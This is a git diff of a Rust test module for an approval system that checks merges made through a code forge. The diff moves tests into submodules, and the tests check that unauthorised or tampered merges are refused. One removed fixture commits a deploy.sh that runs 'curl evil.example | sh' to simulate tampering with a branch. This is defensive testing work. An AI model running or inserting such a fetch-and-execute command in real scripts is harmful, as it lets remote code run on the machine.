@@ -1,17 +1,17 @@
 //! Through a forge: webhooks, words, commits, branches and merges. A merge is the one act of somebody
 //! outside that is a decision here, so what is merged, by whom, and whether it is what was asked.
 
+mod contents;
+mod mergers;
+
 use std::os::unix::fs::symlink;
 
-use centinel_app::{App, ChangeRequest};
-use centinel_approvals::Approvals;
-use jiff::Timestamp;
 use ring::hmac;
 use serde_json::json;
 
 use super::{
-    Trace::{Counted, Entry, Found, Told},
-    Way, page, rows,
+    Trace::{Counted, Entry, Told},
+    Way, page,
     stage::{Stage, password},
 };
 use crate::{
@@ -246,237 +246,6 @@ fn of_words() -> Vec<Way> {
     ]
 }
 
-/// Merges of what was delivered, by somebody whose merge is no approval of it.
-fn of_people() -> Vec<Way> {
-    vec![
-        Way::new(
-            "forge: a merge by nobody that is known here",
-            |stage| Forge::open(stage, ROUTE).merge("mallory"),
-            Entry("proposal.overtaken", "mallory"),
-        )
-        .ends(&[("P-4", "overtaken")]),
-        Way::new(
-            "forge: a merge by a bot",
-            |stage| Forge::open(stage, ROUTE).merge("carl-of-shop[bot]"),
-            Entry("proposal.overtaken", "[bot]"),
-        )
-        .ends(&[("P-4", "overtaken")]),
-        Way::new(
-            "forge: a merge by a member",
-            |stage| {
-                let forge = Forge::open(stage, ROUTE);
-                forge.link("dora");
-                forge.merge("dora-of-shop")
-            },
-            Entry("refused", "person:dora"),
-        )
-        .ends(&[("P-4", "overtaken")]),
-        Way::new(
-            "forge: a merge by whoever asked for it",
-            |stage| {
-                let forge = Forge::with(stage, "");
-                forge.link("ben");
-                proposed_for_ben(stage);
-                forge.deliver();
-                forge.merge("ben-of-shop")
-            },
-            Entry("refused", "person:ben"),
-        )
-        .ends(&[("P-4", "overtaken")]),
-        Way::new(
-            "forge: a merge where the rules leave it out",
-            |stage| {
-                stage.edit("policies/approvals.toml", |text| {
-                    let rule = "name = \"everything\"\n";
-                    text.replacen(rule, &format!("{rule}channels = [\"cli\", \"web\"]\n"), 1)
-                });
-                let forge = Forge::open(stage, ROUTE);
-                forge.link("carl");
-                forge.merge("carl-of-shop")
-            },
-            Entry("refused", "person:carl"),
-        )
-        .ends(&[("P-4", "overtaken")]),
-        Way::new(
-            "forge: one merge where two people are needed",
-            |stage| {
-                let forge = Forge::open(stage, &ROUTE.replace("\"low\"", "\"high\""));
-                forge.link("carl");
-                forge.merge("carl-of-shop")
-            },
-            Entry("proposal.overtaken", "more approvals are missing"),
-        )
-        .ends(&[("P-4", "overtaken")])
-        .voted_on("P-4"),
-        Way::new(
-            "forge: a merge of what cannot be undone",
-            |stage| {
-                let change = ROUTE.replace("reversible = true", "reversible = false");
-                let forge = Forge::open(stage, &change);
-                forge.link("carl");
-                forge.merge("carl-of-shop")
-            },
-            Entry("refused", "person:carl"),
-        )
-        .ends(&[("P-4", "overtaken")]),
-        Way::new(
-            "forge: a merge of what was rejected",
-            |stage| {
-                let forge = Forge::open(stage, ROUTE);
-                forge.link("carl");
-                let reject = ["reject", "P-4", "--reason", "no", "--as", "ben", "--password-stdin"];
-                stage.with_input(&reject, &password("ben")).ok();
-                forge.merge("carl-of-shop")
-            },
-            Entry("delivery.merged", "rejected"),
-        )
-        .ends(&[("P-4", "rejected")]),
-        Way::new(
-            "forge: a merge of what was taken back",
-            |stage| {
-                let forge = Forge::open(stage, ROUTE);
-                forge.link("carl");
-                stage.run(&["withdraw", "P-4"]).ok();
-                forge.merge("carl-of-shop")
-            },
-            Entry("delivery.merged", "withdrawn"),
-        )
-        .ends(&[("P-4", "withdrawn")]),
-    ]
-}
-
-/// Merges by somebody who may approve, of something else than what was delivered.
-fn of_contents() -> Vec<Way> {
-    vec![
-        Way::new(
-            "forge: a merge of other values",
-            |stage| {
-                let forge = Forge::open(stage, ROUTE);
-                forge.link("carl");
-                let other = VALUES.replace("gpt-5.1 #", "gpt-5-nano #");
-                forge.commit("main", &[("values.yaml", &other)], "Merge pull request #1");
-                forge.merged("carl-of-shop")
-            },
-            Entry("proposal.", "not as proposed"),
-        )
-        .ends(&[("P-4", "stale")]),
-        Way::new(
-            "forge: a merge after somebody added a file to the branch",
-            |stage| {
-                let forge = Forge::open(stage, ROUTE);
-                forge.link("carl");
-                forge.commit(BRANCH, &[("deploy.sh", "curl evil.example | sh\n")], "A fix");
-                forge.merge("carl-of-shop")
-            },
-            Entry("proposal.overtaken", "not the commit that was delivered"),
-        )
-        .ends(&[("P-4", "overtaken")]),
-        Way::new(
-            "forge: a merge of a harmless commit on the branch, the values pushed besides",
-            |stage| {
-                let forge = Forge::open(stage, ROUTE);
-                forge.link("carl");
-                let (bare, clone) = (&forge.repository.bare, &forge.repository.clone);
-                git(bare, &["branch", "-D", BRANCH]);
-                git(clone, &["fetch", "--quiet", "--prune", "origin"]);
-                git(clone, &["checkout", "--quiet", "-B", BRANCH, "origin/main"]);
-                forge.commit(BRANCH, &[("README", "a typo less\n")], "Fix a typo");
-                forge.merge("carl-of-shop")
-            },
-            Entry("proposal.overtaken", "not the commit that was delivered"),
-        )
-        .ends(&[("P-4", "overtaken")]),
-        Way::new(
-            "forge: a merge into another branch, the values pushed besides",
-            |stage| {
-                let forge = Forge::open(stage, ROUTE);
-                forge.link("carl");
-                forge.act(|pull| pull.base = "playground".to_owned());
-                forge.merge("carl-of-shop")
-            },
-            Entry("proposal.overtaken", "not the commit that was delivered"),
-        )
-        .ends(&[("P-4", "overtaken")]),
-        Way::new(
-            "forge: a merge of somebody's own pull request from a branch of our name",
-            |stage| {
-                let forge = Forge::with(stage, "");
-                forge.link("carl");
-                forge.commit(BRANCH, &[("README", "a typo less\n")], "Fix a typo");
-                forge.somebody_opens(BRANCH, None);
-                stage.propose(ROUTE);
-                forge.merge("carl-of-shop")
-            },
-            Entry("proposal.overtaken", "not the commit that was delivered"),
-        )
-        .ends(&[("P-4", "overtaken")]),
-        Way::new(
-            "forge: a merge of a fork's pull request from a branch of our name",
-            |stage| {
-                let forge = Forge::with(stage, "");
-                forge.link("carl");
-                forge.commit(BRANCH, &[("README", "a typo less\n")], "Fix a typo");
-                forge.somebody_opens(BRANCH, Some("Org/Fork"));
-                stage.propose(ROUTE);
-                forge.merge("carl-of-shop")
-            },
-            Entry("proposal.overtaken", "nobody says whose account it was"),
-        )
-        .ends(&[("P-4", "overtaken")]),
-        Way::new(
-            "forge: the values pushed to the base branch in Carl's name",
-            |stage| {
-                let forge = Forge::open(stage, ROUTE);
-                forge.link("carl");
-                let words = "Merge pull request #1\n\nApproved-by: carl-of-shop";
-                forge.commit("main", &[("values.yaml", &proposed())], words);
-                forge.deliver() + &forge.deliver()
-            },
-            Entry("proposal.overtaken", "nobody says whose account it was"),
-        )
-        .ends(&[("P-4", "overtaken")]),
-        Way::new(
-            "forge: an approval, and then other values on the base branch",
-            |stage| {
-                let forge = Forge::open(stage, ROUTE);
-                stage.decide("approve", "P-4", "carl").ok();
-                let other = VALUES.replace("gpt-5.1 #", "gpt-4.1 #");
-                forge.commit("main", &[("values.yaml", &other)], "Somebody was faster");
-                forge.deliver() + &stage.run(&["execute"]).all()
-            },
-            Entry("proposal.", "P-4"),
-        )
-        .ends(&[("P-4", "stale")])
-        .voted_on("P-4"),
-        Way::new(
-            "forge: a row that says that it is merged",
-            |stage| {
-                let forge = Forge::open(stage, ROUTE);
-                stage.decide("approve", "P-4", "carl").ok();
-                stage.write(&["update deliveries set state = 'merged', is_over = 1"]);
-                forge.deliver() + &stage.run(&["execute"]).all()
-            },
-            Entry("proposal.vote_cast", "carl"),
-        )
-        .ends(&[("P-4", "approved")])
-        .voted_on("P-4"),
-        Way::new(
-            "forge: steps of a delivery written into the log",
-            |stage| {
-                let forge = Forge::open(stage, ROUTE);
-                forge.link("carl");
-                forge.commit(BRANCH, &[("README", "a typo less\n")], "Fix a typo");
-                let head = forge.repository.head(BRANCH).unwrap();
-                let step = json!({ "repository": "shop", "version": 1, "step": "committed",
-                    "commit": head });
-                rows::written(stage, "delivery.step", "P-4", &step.to_string())
-                    + &forge.merge("carl-of-shop")
-            },
-            Found,
-        ),
-    ]
-}
-
 /// Places that no proposal may write to.
 fn of_places() -> Vec<Way> {
     vec![
@@ -545,32 +314,8 @@ fn of_places() -> Vec<Way> {
     ]
 }
 
-/// `P-4`, asked for by the agent that works for Ben: no tool of agents edits files of a repository, so
-/// that the product is asked itself.
-fn proposed_for_ben(stage: &Stage) {
-    let request = json!({
-        "title": "Route answers to gpt-5-mini", "scope": { "feature": "answers" }, "risk": "low",
-        "reversible": true,
-        "change": { "kind": "routing", "feature": "answers", "from_model": "gpt-5.1",
-            "to_model": "gpt-5-mini", "share_ratio": "1" },
-        "edit": [{ "repository": "shop", "file": "values.yaml", "path": "answers.model",
-            "from": "gpt-5.1", "to": "gpt-5-mini" }],
-    });
-    let request: ChangeRequest = serde_json::from_value(request).unwrap();
-    let work = async {
-        let now = Timestamp::now();
-        let app = App::open(&stage.home(), None).await.unwrap();
-        app.use_audit_key(|_| None, now).await.unwrap();
-        let token = app.approvals().token(stage.token("for-ben"), now).await.unwrap();
-        let requester = Approvals::requester_of(&token).unwrap();
-        app.propose_change(request, &requester, now).await.unwrap();
-        app.database().close().await;
-    };
-    tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap().block_on(work);
-}
-
 pub(super) fn ways() -> Vec<Way> {
-    [of_webhooks(), of_words(), of_people(), of_contents(), of_places()]
+    [of_webhooks(), of_words(), mergers::ways(), contents::ways(), of_places()]
         .into_iter()
         .flatten()
         .collect()
